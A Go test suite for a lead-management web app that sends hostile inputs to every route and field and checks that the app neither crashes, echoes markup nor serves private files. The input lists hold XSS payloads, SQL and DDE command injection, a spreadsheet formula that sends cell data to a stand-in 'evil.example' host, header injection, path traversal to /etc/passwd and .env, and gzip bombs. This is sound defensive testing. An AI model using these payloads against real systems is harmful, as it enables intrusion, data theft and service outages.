package handlers_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"maps"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"hotleads/handlers"
	"hotleads/lead"
)

// markup is what no page may hold as such; each hostile text brings it along.
const markup = `<img src=x onerror=alert(1)>`

// hostile are texts that somebody types who means no good, or whose program is broken.
var hostile = []string{
	"", markup, "\x00NUL", "\xff\xfe not UTF-8", "\u202eright to left\u2066", "\u200b\u200d\u2060", strings.Repeat("x", 10_000), strings.Repeat("日", 10_000),
	`=HYPERLINK("http://evil.example?"&A1)`, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-1", "99999999999999999999", "1e400", "NaN", "0x10", "2026-02-30", "0000-00-00", "9999-12-31T23:59:60Z",
	"../../../../etc/passwd", "..\\..\\", "'; DROP TABLE leads;--", "%00%ff", "%s%n", "\r\nSet-Cookie: a=b", "{{7*7}}", "${7*7}", "[]", "{}", "null", "true", "team:", "email:", "user:" + strings.Repeat("y", 300),
	"javascript:alert(1)", "//evil.example", `"'><script>alert(1)</script>`, "😀", "a@b", "ı@İ.example",
}

// broken finds what hostile text has made of a page.
var broken = regexp.MustCompile(`<img src=x|<script>alert|onerror=alert\(1\)>["']|href="(javascript:|//evil)`)

// fieldNames are the fields of every form and address that the pages have.
func (x *house) fieldNames() []string {
	names := map[string]bool{"actor": true, "reason": true, "note": true, "date": true, "channel": true, "outcome": true, "amount": true, "to": true, "before": true, "cursor": true, "limit": true, "q": true, "stage": true, "team": true, "mine": true, "ended": true, "next": true, "from": true, "map": true, "file": true}
	for _, l := range handlers.Lines() {
		if l.Method != http.MethodGet || strings.HasPrefix(l.Path, "/live/") {
			continue
		}
		path := l.Path
		if find := samples[l.Method+" "+l.Path]; find != nil {
			path = find(x).own
		}
		for _, role := range []lead.Role{lead.Admin, lead.Manager} {
			_, _, page := x.who[role].get(path)
			for _, m := range regexp.MustCompile(` name="([a-zA-Z0-9_.\[\]-]{1,60})"`).FindAllStringSubmatch(page, -1) {
				names[m[1]] = true
			}
		}
	}
	return slices.Sorted(maps.Keys(names))
}

// TestHostileTextsEverywhere sends hostile texts in every field to every address
// that the table of routes has, as those who get furthest: nothing fails on our
// side, nothing is sent back as markup, no header is made of it.
func TestHostileTextsEverywhere(t *testing.T) {
	x := newHouse(t)
	fields := x.fieldNames()
	check := func(what string, status int, h http.Header, body string) {
		t.Helper()
		if status >= 500 {
			t.Errorf("%s: %d %.300s", what, status, body)
		}
		if strings.Contains(h.Get("Content-Type"), "html") && broken.MatchString(body) {
			t.Errorf("%s: holds %q", what, broken.FindString(body))
		}
		for _, c := range h.Values("Set-Cookie") {
			if strings.HasPrefix(c, "a=") {
				t.Errorf("%s: sets the cookie %q", what, c)
			}
		}
	}
	const rounds = 3 // each field gets another text in each round
	for i, l := range handlers.Lines() {
		path := l.Path
		if find := samples[l.Method+" "+l.Path]; find != nil {
			path = find(x).own
		}
		if strings.HasPrefix(path, "/live/") || l.Path == "/logout" {
			continue
		}
		for round := range rounds {
			values := url.Values{}
			object := map[string]any{}
			for j, name := range fields {
				text := hostile[(i+j+round*len(hostile)/rounds)%len(hostile)]
				values.Set(name, text)
				object[name] = text
			}
			short := url.Values{}
			for name, v := range values {
				if len(v[0]) < 400 {
					short[name] = v
				}
			}
			b := x.who[[]lead.Role{lead.Admin, lead.Manager}[round%2]]
			what := fmt.Sprintf("%s %s, round %d", l.Method, path, round)
			switch {
			case l.Method == http.MethodGet:
				h := http.Header{}
				if l.Door == "programs" {
					h.Set("Authorization", "Bearer "+x.api)
				}
				status, h, body := b.send(l.Method, path+"?"+short.Encode(), "", h)
				check(what, status, h, body)
			case l.Door == "programs":
				text, _ := json.Marshal(object)
				status, h, body := b.send(l.Method, path, string(text), http.Header{"Authorization": {"Bearer " + x.api}})
				check(what, status, h, body)
			default:
				status, h, body := b.send(l.Method, path, values.Encode(), formType)
				check(what, status, h, body)
			}
		}
	}
	for _, l := range handlers.Lines() { // whatever was taken is shown
		path := l.Path
		if find := samples[l.Method+" "+l.Path]; find != nil {
			path = find(x).own
		}
		if l.Method == http.MethodGet && l.Door == "people" && !strings.HasPrefix(path, "/live/") {
			for _, role := range []lead.Role{lead.Admin, lead.Manager} {
				status, h, body := x.who[role].get(path)
				check("after it "+path, status, h, body)
			}
		}
	}
}

// jsonValues are values of every kind that JSON has.
var jsonValues = []string{
	`null`, `true`, `false`, `0`, `-1`, `1.5`, `1e308`, `123456789012345678901234567890`, `""`, `" "`, `"text"`, `"` + markup + `"`, `"2026-01-02T03:04:05Z"`, `"ada@typed.example"`,
	`[]`, `[1]`, `["a","b"]`, `[[[]]]`, `{}`, `{"name":"x"}`, `{"name":1}`, `{"":null}`,
}

// segmentFields are the fields of every call, as paths.
var segmentFields = []string{
	"type", "event", "userId", "anonymousId", "messageId", "previousId", "groupId", "name", "category", "timestamp", "originalTimestamp", "sentAt", "receivedAt", "integrations", "writeKey", "version", "channel",
	"properties", "properties.name", "properties.category", "properties.url", "properties.path", "properties.referrer", "properties.title", "properties.products", "properties.amount", "properties.currency", "properties.reason", "properties.call_me",
	"traits", "traits.email", "traits.phone", "traits.name", "traits.firstName", "traits.lastName", "traits.company", "traits.company.name", "traits.title", "traits.country", "traits.address", "traits.address.city", "traits.address.country",
	"traits.employees", "traits.industry", "traits.timezone", "traits.email_domain", "traits.email_kind", "traits.user_id", "traits.createdAt",
	"context", "context.page", "context.page.url", "context.page.path", "context.page.referrer", "context.page.title", "context.campaign", "context.campaign.source", "context.traits", "context.traits.email", "context.timezone", "context.locale", "context.ip", "context.userAgent",
}

// message is a call with the JSON value at a path.
func message(typ, user, path, value string) string {
	object := map[string]any{"type": typ, "userId": user, "previousId": "anonymous of " + user, "event": "Demo Requested"}
	at := object
	names := strings.Split(path, ".")
	for _, name := range names[:len(names)-1] {
		next := map[string]any{}
		at[name], at = next, next
	}
	at[names[len(names)-1]] = json.RawMessage(value)
	b, err := json.Marshal(object)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// TestEveryFieldOfEveryCallOfEveryType sends each call with a value of each kind in
// each of its fields: it is taken, or refused by the name of the field; and what was
// taken can be read, scored and shown.
func TestEveryFieldOfEveryCallOfEveryType(t *testing.T) {
	x := newSite(t)
	x.person("Mara", lead.Marketing)
	var batch, about []string
	for i, path := range segmentFields {
		for j, value := range jsonValues {
			// Which calls there are makes no difference behind the decoder, which is tested with all.
			typ := []string{"identify", "track"}[(i+j)%2]
			if strings.HasPrefix(path, "traits") {
				typ = "identify"
			}
			batch = append(batch, message(typ, fmt.Sprintf("%s %d", path, j), path, value))
			about = append(about, path)
		}
	}
	taken, all := 0, len(batch)
	for len(batch) > 0 {
		n := min(len(batch), 700)
		status, reply := x.intake(t, x.srv, "batch", `{"batch":[`+strings.Join(batch[:n], ",")+`]}`)
		if status != http.StatusOK {
			t.Fatalf("%d %v", status, reply)
		}
		taken += n - len(reply.Rejected)
		for _, r := range reply.Rejected {
			root, _, _ := strings.Cut(about[r.Index], ".")
			if !strings.Contains(r.Error, root) && !strings.Contains(r.Error, "userId or anonymousId is missing") {
				t.Errorf("%s is refused without its name: %s", batch[r.Index], r.Error)
			}
		}
		batch, about = batch[n:], about[n:]
	}
	if taken < all/2 || taken == all {
		t.Errorf("%d of %d calls were taken", taken, all)
	}
	seen, cursor := 0, ""
	for {
		status, list := x.call(http.MethodGet, "/api/v1/leads?limit=1000&cursor="+cursor, nil)
		if status != http.StatusOK {
			t.Fatalf("the list: %d %v", status, list)
		}
		data := list["data"].([]any)
		seen += len(data)
		next, more := list["next_cursor"].(string)
		if cursor = next; !more {
			break
		}
	}
	if seen < 500 {
		t.Errorf("%d leads became of it", seen)
	}
	mara := x.signIn("Mara")
	for _, path := range []string{"traits.email", "traits.name", "traits.company", "traits.phone", "traits.address", "traits.title", "traits.timezone", "context.campaign.source"} {
		for i := range jsonValues {
			ref := "user:" + url.PathEscape(fmt.Sprintf("%s %d", path, i))
			if status, l := x.call(http.MethodGet, "/api/v1/leads/"+ref, nil); status == http.StatusOK {
				if status, _, page := mara.get("/leads/" + l["id"].(string)); status != http.StatusOK || broken.MatchString(page) {
					t.Errorf("the page of %s: %d", ref, status)
				}
			} else if status != http.StatusNotFound && status != http.StatusPermanentRedirect {
				t.Errorf("%s: %d", ref, status)
			}
		}
	}
	if status, _, page := mara.get("/board/emea"); status != http.StatusOK || broken.MatchString(page) {
		t.Errorf("the board: %d", status)
	}
}

type intakeAnswer struct {
	Success  bool
	Error    string
	Rejected []struct {
		Index int
		Error string
	}
}

// intake sends a body as it is.
func (x *site) intake(t *testing.T, key, call, body string, headers ...string) (int, intakeAnswer) {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, x.URL+"/v1/"+call, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.SetBasicAuth(key, "")
	for i := 0; i < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	status, _, text := x.roundTrip(r)
	var answer intakeAnswer
	if err := json.Unmarshal([]byte(text), &answer); err != nil {
		t.Fatalf("%d %s: %v", status, text, err)
	}
	return status, answer
}

// TestEveryFieldOfTheAPIOfEveryType: a body's fields of a wrong kind are refused
// by name, none is an error of ours.
func TestEveryFieldOfTheAPIOfEveryType(t *testing.T) {
	x := newSite(t)
	x.person("Rosa", lead.Rep)
	id := x.hot("ada")
	for _, call := range []struct {
		method, path string
		fields       []string
	}{
		{http.MethodPost, "/api/v1/leads/" + id + "/touch", []string{"actor", "reason", "note", "date", "channel", "outcome", "amount", "to"}},
		{http.MethodPost, "/api/v1/leads/" + id + "/win", []string{"actor", "amount", "note"}},
		{http.MethodPost, "/api/v1/leads", []string{"user_id", "email", "phone", "name", "company", "title", "country", "traits", "team", "source"}},
		{http.MethodPatch, "/api/v1/leads/" + id, []string{"email", "phone", "name", "company", "title", "country", "traits", "version"}},
		{http.MethodPost, "/api/v1/sla/due", []string{"calendar", "start", "minutes"}},
		{http.MethodPost, "/api/v1/sla/elapsed", []string{"calendar", "from", "to"}},
	} {
		for _, field := range call.fields {
			for _, value := range jsonValues {
				status, answer := x.call(call.method, call.path, `{"`+field+`":`+value+`}`)
				if status >= 500 || status == http.StatusBadRequest {
					t.Errorf("%s %s with %s: %s: %d %v", call.method, call.path, field, value, status, answer)
				}
			}
		}
		for _, body := range []string{``, `null`, `[]`, `"x"`, `7`, `{`, `{}}`, `{"a":1}{"b":2}`, "\ufeff{}", "\x00", "{\"note\":\"\xff\"}", `{"note":"\ud800"}`, `{"note":"\u0000"}`, strings.Repeat(`{"a":`, 20_000), strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000), `{"note":` + strings.Repeat(" ", 2<<20) + `1}`} {
			if status, answer := x.call(call.method, call.path, body); status >= 500 {
				t.Errorf("%s %s with %.40q: %d %v", call.method, call.path, body, status, answer)
			}
		}
	}
}

// TestBombsTakeNoMemory: of what unfolds to hundreds of megabytes only as much is
// read as any body may hold.
func TestBombsTakeNoMemory(t *testing.T) {
	x := newSite(t)
	bomb := bytes.Repeat(zip(t, io.LimitReader(zeros{}, 1<<20)), 100) // one stream in a hundred members, 100 KB on the wire
	tower := zip(t, bytes.NewReader(zip(t, bytes.NewReader(bomb))))
	before := allocated()
	for range 5 {
		for _, call := range []string{"track", "batch"} {
			if status, answer := x.intake(t, x.write, call, string(bomb), "Content-Encoding", "gzip"); status != http.StatusRequestEntityTooLarge {
				t.Errorf("%s: %d %v", call, status, answer)
			}
			if status, answer := x.intake(t, x.write, call, string(tower), "Content-Encoding", "gzip"); status != http.StatusBadRequest {
				t.Errorf("a bomb in a bomb, %s: %d %v", call, status, answer)
			}
		}
	}
	if took := allocated() - before; took > 50<<20 { // of 1000
		t.Errorf("twenty bombs took %d MiB", took>>20)
	}
	// Pages and API take no compressed bodies at all: they are read as they are.
	if status, _, _ := x.stranger().send(http.MethodPost, "/login", string(bomb), with(formType, "Content-Encoding", "gzip")); status >= 500 || status < 400 {
		t.Errorf("a bomb for the sign-in: %d", status)
	}
}

// TestWhenItWasSaidToHappen: ten years ago counts next to nothing, tomorrow is now.
func TestWhenItWasSaidToHappen(t *testing.T) {
	x := newSite(t)
	now := lead.Now()
	say := func(user string, at time.Time) map[string]any {
		x.identify(user, map[string]any{"email": user + "@buyer.example"})
		x.send(x.write, map[string]any{"type": "track", "userId": user, "event": "Products Compared", "timestamp": at.Format(time.RFC3339)})
		_, l := x.call(http.MethodGet, "/api/v1/leads/user:"+user, nil)
		_, acts := x.call(http.MethodGet, "/api/v1/leads/user:"+user+"/activities", nil)
		l["at"] = acts["data"].([]any)[0].(map[string]any)["occurred_at"]
		return l
	}
	old, next, fresh := say("old", now.AddDate(-10, 0, 0)), say("next", now.AddDate(10, 0, 0)), say("fresh", now)
	score := func(l map[string]any) float64 { return l["score"].(float64) }
	if score(fresh)-score(old) < 19 || score(next)-score(fresh) > .1 || score(fresh)-score(next) > .1 {
		t.Errorf("ten years ago counts %v, now %v, in ten years %v", old["score"], fresh["score"], next["score"])
	}
	at, err := time.Parse(time.RFC3339, next["at"].(string))
	if err != nil || at.After(time.Now()) || now.Sub(at) > time.Minute {
		t.Errorf("what is said to happen in ten years happened at %v", next["at"])
	}
	for _, bad := range []string{"1969-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "-2026-01-01", "2026-01-01T25:00:00Z", "10000-01-01T00:00:00Z", "1772440200", "now()"} {
		if status, answer := x.intake(t, x.write, "track", `{"userId":"bad","event":"Visited","timestamp":"`+bad+`"}`); status != http.StatusBadRequest || !strings.Contains(answer.Error, "timestamp") {
			t.Errorf("timestamp %q: %d %s", bad, status, answer.Error)
		}
	}
}

// TestNamesThatAreNone: nobody is called by what can't be seen, and a name of
// 10,000 characters is kept whole and shown short.
func TestNamesThatAreNone(t *testing.T) {
	x := newSite(t)
	x.person("Mara", lead.Marketing)
	long := strings.Repeat("Wolfeschlegelstein ", 527)[:10_000]
	ids := map[string]string{}
	for user, name := range map[string]string{"empty": "", "spaces": " \u00a0 ", "unseen": "\u200b\u200d\u2060", "filler": "\u3164\u2800", "long": long, "turned": "\u202eevil\u2066", "formula": `=HYPERLINK("http://evil.example")`} {
		ids[user] = x.hot(user)
		x.identify(user, map[string]any{"email": user + "@names.example"})
		x.identify(user, map[string]any{"name": name, "company": name})
		x.identify(user, map[string]any{"title": name, "city": name})
	}
	mara := x.signIn("Mara")
	_, _, board := mara.get("/board/emea")
	for user, id := range ids {
		_, l := x.call(http.MethodGet, "/api/v1/leads/"+id, nil)
		want := user // as hot named them: what can't be seen says nothing
		switch user {
		case "long":
			want = strings.TrimSpace(long)
		case "turned":
			want = "\u202eevil\u2066"
		case "formula":
			want = `=HYPERLINK("http://evil.example")`
		}
		if l["name"] != want {
			t.Errorf("%s is called %.60q in the API", user, l["name"])
		}
		_, _, page := mara.get("/leads/" + id)
		for where, text := range map[string]string{"board": board, "page": page} {
			if strings.ContainsAny(text, "\u202e\u2066") || where == "board" && strings.ContainsAny(text, "\u200b\u2060\u3164") {
				t.Errorf("the %s of %s holds marks that turn or hide text", where, user)
			}
			if strings.Contains(text, long[:5000]) {
				t.Errorf("the %s of %s shows a name of %d characters whole", where, user, len(long))
			}
			if user == "formula" && !strings.Contains(html.UnescapeString(text), `=HYPERLINK("http://evil.example")`) {
				t.Errorf("the %s changes a name that looks like a formula", where)
			}
		}
	}
	if len(board) > 200<<10 {
		t.Errorf("the board of %d leads is %d KiB", len(ids), len(board)>>10)
	}
}

// TestOddRequests: what browsers never send is answered in order, and never by a
// file that is not ours or a method that was not asked for.
func TestOddRequests(t *testing.T) {
	x := newSite(t)
	x.person("Rosa", lead.Rep)
	id := x.hot("ada")
	rosa := x.signIn("Rosa")
	raw := func(method, target string, h http.Header) (int, http.Header, string) {
		t.Helper()
		r, err := http.NewRequestWithContext(context.Background(), method, x.URL, nil)
		if err != nil {
			t.Fatal(err)
		}
		r.URL.Opaque = target // as it is, dots and all
		r.Header = h.Clone()
		if r.Header == nil {
			r.Header = http.Header{}
		}
		u, _ := url.Parse(x.URL)
		for _, c := range rosa.Jar.Cookies(u) {
			r.AddCookie(c)
		}
		return x.roundTrip(r)
	}
	for _, target := range []string{
		"/static/../go.mod", "/static/..%2fgo.mod", "/static/%2e%2e/%2e%2e/etc/passwd", "/static/....//etc/passwd", `/static/..\..\go.mod`, "/static//etc/passwd", "/static/", "/static/app", "/static/app/base.css", "/static/vendor.json", "/static/%00", "/static/app.css%00.png",
		"/../etc/passwd", "/leads/../../etc/passwd", "/.git/config", "/.env", "/data/hotleads.db", "/data/secret.key", "/debug/pprof/", "/debug/vars", "/api/v1/../../etc/passwd", "/v1/../metrics", "/%2e%2e/%2e%2e/",
	} {
		status, _, body := raw(http.MethodGet, target, nil)
		if status < 300 || status >= 500 || strings.Contains(body, "root:") || strings.Contains(body, "module hotleads") {
			t.Errorf("GET %s: %d %.80s", target, status, body)
		}
	}
	for _, h := range []http.Header{{"X-Http-Method-Override": {"POST"}}, {"X-Http-Method": {"POST"}}, {"X-Method-Override": {"POST"}}, {"X-Original-Url": {"/metrics"}, "X-Rewrite-Url": {"/metrics"}}} {
		if status, _, _ := raw(http.MethodGet, "/leads/"+id+"/claim?_method=POST", h); status != http.StatusMethodNotAllowed {
			t.Errorf("GET with %v: %d", h, status)
		}
	}
	if _, l := x.call(http.MethodGet, "/api/v1/leads/"+id, nil); l["stage"] != "mql" {
		t.Errorf("a GET has moved the lead: %v", l["stage"])
	}
	for _, method := range []string{"TRACE", "CONNECT", "PROPFIND", "DELETE", "get", "X"} {
		target := "/board/emea"
		if status, _, body := raw(method, target, http.Header{"X-Echo": {"not to be echoed"}}); status < 400 || status >= 500 || strings.Contains(body, "not to be echoed") {
			t.Errorf("%s %s: %d", method, target, status)
		}
	}
	css := regexp.MustCompile(`/static/app\.[0-9a-f]+\.css`).FindString(x.board("Rosa"))
	for _, h := range []http.Header{
		{"Range": {"bytes=0-1,2-3,4-5"}}, {"Range": {"bytes=-1"}}, {"Range": {"bytes=9999999999999999999-"}}, {"Range": {"lines=1-2"}}, {"Range": {strings.Repeat("bytes=0-,", 500)}}, {"If-Range": {"x"}, "Range": {"bytes=0-0"}},
		{"Accept-Encoding": {"gzip;q=0"}}, {"Accept-Encoding": {strings.Repeat("x,", 5000)}}, {"Accept-Encoding": {"\u00ff"}}, {"Accept-Encoding": {"br, zstd"}},
		{"If-None-Match": {`"` + strings.Repeat("x", 5000) + `"`}}, {"If-Modified-Since": {"never"}}, {"Accept": {"nonsense"}}, {"Accept-Language": {strings.Repeat("de,", 5000)}},
		{"Cookie": {strings.Repeat("a=b; ", 10_000)}}, {"Cookie": {"hotleads=" + strings.Repeat("x", 30_000)}}, {"Cookie": {"hotleads=a; hotleads=b; =; ;;;"}}, {"Host": {"x"}}, {"Referer": {"http://[::"}}, {"Origin": {"null"}}, {"Content-Type": {"nonsense"}}, {"X-Forwarded-For": {strings.Repeat("1.2.3.4,", 5000)}},
	} {
		for _, target := range []string{css, "/login", "/board/emea", "/healthz"} {
			status, head, body := raw(http.MethodGet, target, h)
			if status >= 400 || status == http.StatusPartialContent || body == "" && status == http.StatusOK {
				t.Errorf("GET %s with %.60v: %d", target, h, status)
			}
			if q := h.Get("Accept-Encoding"); q != "" && head.Get("Content-Encoding") == "gzip" {
				t.Errorf("GET %s with Accept-Encoding %.20q is compressed", target, q)
			}
		}
	}
	for kind, want := range map[string]int{"": 415, "text/plain": 415, "application/json": 415, "multipart/form-data": 400, "nonsense; ;": 415, "application/x-www-form-urlencoded; charset=latin1": 401, "application/x-www-form-urlencoded": 401} {
		if status, _, _ := x.stranger().send(http.MethodPost, "/login", "email=a&password=b", http.Header{"Content-Type": {kind}}); status != want {
			t.Errorf("a form as %q: %d, want %d", kind, status, want)
		}
		if status, _, body := x.stranger().send(http.MethodPost, "/api/v1/sla/due", `{"calendar":{"time_zone":"UTC"},"start":"2026-01-01T00:00:00Z","minutes":1}`, http.Header{"Content-Type": {kind}, "Authorization": {"Bearer " + x.api}}); status != http.StatusOK {
			t.Errorf("JSON for the API as %q: %d %s", kind, status, body)
		}
	}
	for _, query := range []string{strings.Repeat("q=x&", 2000), "q=" + strings.Repeat("x", 20_000), "q[]=1&q[a]=2", "q=1&q=2", "=", "&&&", "q", "%", "%zz=1", "a;b=c", "limit=0", "limit=-5", "limit=1e9", "stage=mql&stage=won", "cursor=" + strings.Repeat("A", 8000)} {
		for _, path := range []string{"/leads", "/board/emea", "/login", "/api/v1/leads", "/api/v1/board", "/healthz"} {
			status, _, _ := raw(http.MethodGet, path+"?"+query, http.Header{"Authorization": {"Bearer " + x.api}})
			if status >= 500 || status == http.StatusUnauthorized {
				t.Errorf("GET %s?%.40s: %d", path, query, status)
			}
		}
	}
}
